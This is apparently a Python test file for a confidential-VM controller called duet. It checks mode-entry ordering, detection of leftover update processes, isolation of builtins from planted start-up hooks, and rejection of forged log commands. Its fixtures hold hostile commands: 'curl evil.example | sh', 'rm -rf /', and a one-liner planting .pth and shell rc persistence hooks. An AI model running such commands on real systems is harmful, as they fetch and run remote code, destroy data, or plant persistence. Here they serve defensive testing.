"""Entering in-service: the on-enter actions run first, then lockdown, evidence and
snapshot describe the state in-service starts in; processes an update left running are
shown and can be forbidden; duet's builtins run clean (no user start-up hooks); and every
builtin in the log is exactly one of duet's templates."""

from __future__ import annotations

import copy
import os
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml

from duet.client.expectations import UserExpectations, load_expectations
from duet.client.verify import fetch_leaves, verify
from duet.ledger import entries
from helpers import ControllerProc

root_only = pytest.mark.skipif(os.geteuid() != 0, reason="root-mode local CVMs (a system user per CVM)")

POLICY = """\
version: 1
commands:
  in-update: ['.*']
actions:
  attest: {builtin: attest, modes: [in-update, in-service]}
  snapshot: {builtin: snapshot, modes: [in-update, in-service]}
  lockdown: {builtin: lockdown, modes: [in-update, in-service]}
  start: {run: "touch started-by-on-enter", modes: [in-update]}
on_enter:
  in-service: [start]
"""


def _log(c: ControllerProc, cvm: str) -> list[dict[str, Any]]:
    with c.http() as http:
        size = http.get_json(f"/v1/cvms/{cvm}")["tree_size"]
        return [entries.decode(leaf) for leaf in fetch_leaves(http, cvm, size)]


def _verify(c: ControllerProc, cvm: str, tmp: Path, doc: dict[str, Any]) -> dict[str, str]:
    path = tmp / f"expect-{uuid.uuid4().hex[:6]}.yaml"
    path.write_text(yaml.safe_dump(doc))
    with c.http() as http:
        report, _ = verify(http, cvm, trust_simulated=True, state_dir=tmp / "user", expect=load_expectations(path))
    return {ch.name: ch.detail for ch in report.checks if not ch.ok}


def test_on_enter_actions_run_before_lockdown_evidence_and_snapshot(controller: ControllerProc) -> None:
    owner = controller.owner()
    cvm = owner.create("local")["id"]
    owner.set_policy(cvm, POLICY)
    owner.mode(cvm, "in-service")
    log = _log(controller, cvm)
    start = max(i for i, e in enumerate(log) if e["type"] == "command" and e.get("action") == "start")
    mode = max(i for i, e in enumerate(log) if e["type"] == "mode" and e["mode"] == "in-service")
    lockdown = max(i for i, e in enumerate(log) if e["type"] == "lockdown")
    evidence = max(i for i, e in enumerate(log) if e["type"] == "evidence")
    snapshot = max(i for i, e in enumerate(log) if e["type"] == "command" and e.get("action") == "snapshot")
    assert start < lockdown < evidence < snapshot < mode


@root_only
def test_an_update_nohup_loop_is_shown_and_flagged(controller: ControllerProc, tmp_path: Path) -> None:
    owner = controller.owner()
    cvm = owner.create("local")["id"]
    tag = uuid.uuid4().hex[:8]
    loop = f"nohup sh -c 'while :; do sleep 1; done # {tag}' >/dev/null 2>&1 &"
    assert owner.run(cvm, loop)["exit_status"] == 0
    owner.mode(cvm, "in-service")  # not refused: whether it may run on is the user's call
    log = _log(controller, cvm)
    lockdown = [e for e in log if e["type"] == "lockdown"][-1]
    left = lockdown["facts"]["update_processes"]
    assert any(tag in p["command"] and p["started"] for p in left), left
    check = next(c for c in lockdown["checks"] if c["name"] == "no_update_processes")
    assert check["ok"] is False and tag in check["detail"]
    # The snapshot's process list shows it too.
    ps = next(i for i, e in enumerate(log) if e["type"] == "command" and e.get("action") == "snapshot"
              and "ps -eo" in e["command"])
    assert any(e["type"] == "result" and e["command_index"] == ps and tag in e["stdout"] for e in log)
    failed = _verify(controller, cvm, tmp_path, {"lockdown": ["no_update_processes"]})
    assert "no_update_processes" in failed["lockdown"] and tag in failed["lockdown"]
    # Without the loop, the next entry to in-service passes the same expectation.
    owner.mode(cvm, "in-update")
    # ([w]: the pattern must not match this command's own shell); then its last `sleep 1` ends.
    owner.run(cvm, f"pkill -f '[w]hile :; do sleep 1; done # {tag}'; sleep 1.5; true")
    owner.mode(cvm, "in-service")
    assert "lockdown" not in _verify(controller, cvm, tmp_path, {"lockdown": ["no_update_processes"]})


@root_only
def test_planted_start_up_hooks_do_not_run_inside_builtins(controller: ControllerProc) -> None:
    owner = controller.owner()
    cvm = owner.create("local")["id"]
    owner.set_policy(cvm, POLICY.replace("  in-service: [start]\n", "  in-service: []\n"))
    # As the CVM user: a .pth in every site directory Python would read, and shell rc files.
    plant = (
        "for d in $(python3 -c 'import site,sys; print(site.getusersitepackages()); "
        "print(chr(10).join(sys.path))'); do mkdir -p \"$d\" 2>/dev/null && "
        "echo 'import os; open(os.path.expanduser(\"~\") + \"/pwned-pth\", \"a\").write(\"x\")' "
        "> \"$d/zz-duet-test.pth\" 2>/dev/null; done; "
        "for f in .bashrc .profile .shrc .bash_profile .kshrc; do echo 'touch $HOME/pwned-rc' > $f; done; "
        "python3 -c 'print(1)'; ls"
    )
    out = owner.run(cvm, plant)
    home = Path(f"/var/lib/duet-cvm-homes/{cvm}")
    # The plant works: an ordinary python3 started by the user runs the .pth hook.
    assert (home / "pwned-pth").exists(), out
    (home / "pwned-pth").unlink()
    for action in ("attest", "snapshot", "lockdown"):
        owner.action(cvm, action)
    owner.mode(cvm, "in-service")
    owner.action(cvm, "attest")
    assert not (home / "pwned-pth").exists()
    assert not (home / "pwned-rc").exists()


def test_history_requires_builtins_to_be_templates(controller: ControllerProc) -> None:
    from duet.client.cvm_checks import history_checks

    owner = controller.owner()
    cvm = owner.create("local")["id"]
    owner.mode(cvm, "in-service")
    log = _log(controller, cvm)
    expect = UserExpectations.model_validate({"history": {"allowed_commands": ["^echo [a-z]+$"]}})
    [ok] = history_checks(log, expect)
    assert ok.ok, ok.detail
    attest = next(i for i, e in enumerate(log) if e["type"] == "command" and e.get("action") == "attest")
    for forged in (
        log[attest]["command"].replace("python3 -I -S", "python3"),  # not clean (v1 is kept only as v1 wrote it)
        log[attest]["command"] + "; curl evil.example | sh",
        log[attest]["command"].replace("report_client.py", "x.py"),
    ):
        changed = copy.deepcopy(log)
        changed[attest]["command"] = forged
        [bad] = history_checks(changed, expect)
        assert not bad.ok and f"entry {attest}" in bad.detail, forged
    snap = next(i for i, e in enumerate(log) if e["type"] == "command" and e.get("action") == "snapshot")
    changed = copy.deepcopy(log)
    changed[snap]["command"] = "rm -rf /"
    assert not history_checks(changed, expect)[0].ok
    # A log of the older controller (v1 attest and snapshot) stays readable and verifies.
    old = copy.deepcopy(log)
    old[attest]["command"] = old[attest]["command"].replace(
        "env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin python3 -I -S ", "python3 ")
    assert history_checks(old, expect)[0].ok
